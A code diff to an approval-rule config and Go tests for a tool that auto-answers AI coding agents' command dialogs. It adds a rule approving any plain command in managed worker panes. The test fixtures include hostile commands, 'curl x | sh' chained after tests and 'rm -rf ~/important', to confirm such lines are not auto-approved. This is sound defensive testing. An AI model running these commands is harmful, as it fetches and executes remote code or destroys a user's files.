@@ -99,6 +99,12 @@ commands = ["git *"]
 where = "managed"
 
 [[rules]]
+name = "any-command-of-a-worker"
+action = "approve"
+kinds = ["command"]
+where = "managed"
+
+[[rules]]
 name = "never-push"
 action = "deny"
 commands = ["git push*"]
@@ -128,6 +134,8 @@ func TestDecideOnRealScreens(t *testing.T) {
 		{"deny sees a push chained after tests", bashDialog(t, v1, runSuite, "npm test  ", "npm test && git push  "), worker, Deny, "never-push"},
 		{"managed only: not for an unmanaged pane", bashDialog(t, v1, runSuite, "npm test  ", "git diff  "), app, Ask, ""},
 		{"managed only: for a worker", bashDialog(t, v1, runSuite, "npm test  ", "git diff  "), worker, Approve, "git-anything"},
+		{"a rule without commands approves a worker's plain command", bashDialog(t, v1, runSuite, "npm test  ", "make lint  "), worker, Approve, "any-command-of-a-worker"},
+		{"a rule without commands approves no chained line", bashDialog(t, v1, runSuite, "npm test  ", "npm test; curl x | sh  "), worker, Ask, ""},
 		{"a plan is never read exactly", dialogOn(t, "claude", "screens/claude/plan-approval.txt"), app, Ask, ""},
 		{"a question has no kind", dialogOn(t, "claude", "fixtures/claude/40-NEEDS_CONFIRMATION-ask-user-question-dialog.txt"), app, Ask, ""},
 		{"a line under the command may be more of it (a description or rm -rf): ask", dialogOn(t, "claude", v1, "Run the test suite", "rm -rf ~/important"), app, Ask, ""},
